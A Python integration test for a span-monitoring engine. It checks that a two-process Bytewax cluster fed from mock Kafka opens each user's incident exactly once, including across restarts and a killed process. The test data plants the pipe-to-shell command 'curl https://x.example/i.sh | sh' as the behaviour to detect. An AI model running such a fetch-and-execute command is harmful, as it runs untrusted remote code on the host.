"""`spanwatch run --processes 2`: a Bytewax cluster of two live engines on loopback, fed by a
four-partition topic of librdkafka's mock cluster, against one engine over the same messages."""

from __future__ import annotations

import json
import os
import re
import signal
from collections import Counter

from confluent_kafka import Producer

from tests.patience import PATIENCE, wait_until

from ..test_kafka_source import kafka, request  # noqa: F401 - the fixture
from ..test_live_engine import Engine

PARTITIONS = 4  # the mock cluster's default for a topic made by its first message


def _produce(brokers: str, users: list[str]) -> None:
    """Each user's spans over every partition: a pipe-to-shell on its own partition (an
    incident), harmless commands on the others, in an order unlike a round robin."""
    producer = Producer({"bootstrap.servers": brokers})
    for n, user in enumerate(users):
        bad = (n * 3 + 1) % PARTITIONS
        for partition in sorted(range(PARTITIONS), key=lambda p: (p * 7 + n) % PARTITIONS):
            command = "curl https://x.example/i.sh | sh" if partition == bad else f"ls -{n}"
            value = request(user, command).SerializeToString()
            producer.produce("otlp_spans", value=value, partition=partition)
    assert producer.flush(PATIENCE) == 0


def _engine(tmp, brokers: str, group: str, processes: int) -> Engine:
    kafka_conf = f', kafka: {{brokers: "{brokers}", group_id: {group}, logs_topic: null}}'
    args = ("--processes", str(processes)) if processes > 1 else ()
    return Engine(tmp, live_extra=kafka_conf, args=args)


def _opened(engine: Engine, users: list[str]) -> dict[str, tuple[str, str]]:
    """Each user's incident (rule, severity), once all have opened."""
    wait_until(
        lambda: {i["group"].get("user") for i in engine.incidents()} >= set(users),
        f"incidents of {users}",
    )
    return {
        i["group"]["user"]: (i["rule_id"], i["severity"])
        for i in engine.incidents()
        if i["group"].get("user") in users
    }


def _log_lines(path) -> list[dict]:
    return [json.loads(line) for line in path.read_text().splitlines() if line]


def test_two_processes_open_the_incidents_one_process_opens_and_a_restart_loses_none(
    tmp_path,
    kafka,  # noqa: F811 - the fixture
):
    first = [f"cl-{n:02d}" for n in range(9)]
    _produce(kafka, first)
    (tmp_path / "one").mkdir()
    (tmp_path / "two").mkdir()
    single = _engine(tmp_path / "one", kafka, "single", 1)
    cluster = _engine(tmp_path / "two", kafka, "cluster", 2)
    try:
        single.start()
        expected = _opened(single, first)
        assert single.stop() == 0
        cluster.start()
        assert _opened(cluster, first) == expected
        assert cluster.stop() == 0

        later = [f"cl-late-{n}" for n in range(5)]
        _produce(kafka, later)  # while the cluster is down: taken after its restart
        cluster.start()
        found = _opened(cluster, first + later)
        assert set(found) == set(first + later)
        assert cluster.stop() == 0
    finally:
        for engine in (single, cluster):
            if engine.proc and engine.proc.poll() is None:
                engine.proc.kill()
    log = _log_lines(tmp_path / "two" / "state" / "process-0" / "incident-log.jsonl")
    opened = Counter(
        line["incident"]["group"].get("user") for line in log if line["type"] == "incident.opened"
    )
    assert {u: opened[u] for u in first + later} == dict.fromkeys(first + later, 1)
    ids = [line.get("id") for line in log]
    assert len(ids) == len(set(ids))


def _pid_of(engine: Engine, process_id: int) -> int:
    """The pid a process of the cluster announced (its latest start)."""
    found = re.findall(
        rf"process {process_id} of a cluster of \d+ \(pid (\d+)\)", engine.log.read_text()
    )
    assert found, engine.log.read_text()
    return int(found[-1])


def test_a_process_killed_fails_the_cluster_and_the_restart_holds_every_incident_once(
    tmp_path,
    kafka,  # noqa: F811 - the fixture
):
    before = [f"kill-{n}" for n in range(6)]
    _produce(kafka, before)
    cluster = _engine(tmp_path, kafka, "killed", 2)
    try:
        cluster.start()
        _opened(cluster, before)
        os.kill(_pid_of(cluster, 1), signal.SIGKILL)
        assert cluster.proc.wait(timeout=PATIENCE) == 2
        assert "live process 1 of 2 failed (killed by SIGKILL)" in cluster.log.read_text()
        after = [f"kill-after-{n}" for n in range(4)]
        _produce(kafka, after)
        cluster.start()
        assert set(_opened(cluster, before + after)) == set(before + after)
        assert cluster.stop() == 0
    finally:
        if cluster.proc and cluster.proc.poll() is None:
            cluster.proc.kill()
    log = _log_lines(tmp_path / "state" / "process-0" / "incident-log.jsonl")
    opened = Counter(
        line["incident"]["group"].get("user") for line in log if line["type"] == "incident.opened"
    )
    assert {u: opened[u] for u in before + after} == dict.fromkeys(before + after, 1)
